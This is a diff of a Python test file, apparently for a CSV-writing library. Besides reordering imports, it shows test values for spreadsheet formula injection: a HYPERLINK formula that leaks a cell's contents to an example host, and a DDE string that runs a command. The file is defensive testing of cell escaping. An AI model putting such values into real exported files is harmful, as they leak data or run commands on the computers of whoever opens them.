@@ -11,14 +11,14 @@ from theval_mesh.commands.cli import main
 from theval_mesh.core import aggregate
 from theval_mesh.core.results import OK, VideoResult
 from theval_mesh.outputs import results_files
-from theval_mesh.studies.alignment_files import read_human, read_scores
-from theval_mesh.studies.legacy_metrics import LegacyRow, LegacyRun, write_outputs
-from theval_mesh.stores.study_store import StudyStore
 from theval_mesh.pure.csv_cells import FORMULA_STARTS, Writer, from_cell, to_cell
 from theval_mesh.pure.metrics.registry import REGISTRY
 from theval_mesh.pure.scoring.final_score import leaderboard
 from theval_mesh.pure.scoring.tables import read_raw_csv
 from theval_mesh.pure.study_plan import Pair
+from theval_mesh.stores.study_store import StudyStore
+from theval_mesh.studies.alignment_files import read_human, read_scores
+from theval_mesh.studies.legacy_metrics import LegacyRow, LegacyRun, write_outputs
 
 LINK = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
 NAMES = [LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+33 1 23", "-2+3", "\t=1+1", "\r=1", "'=x", "''@y", "plain"]
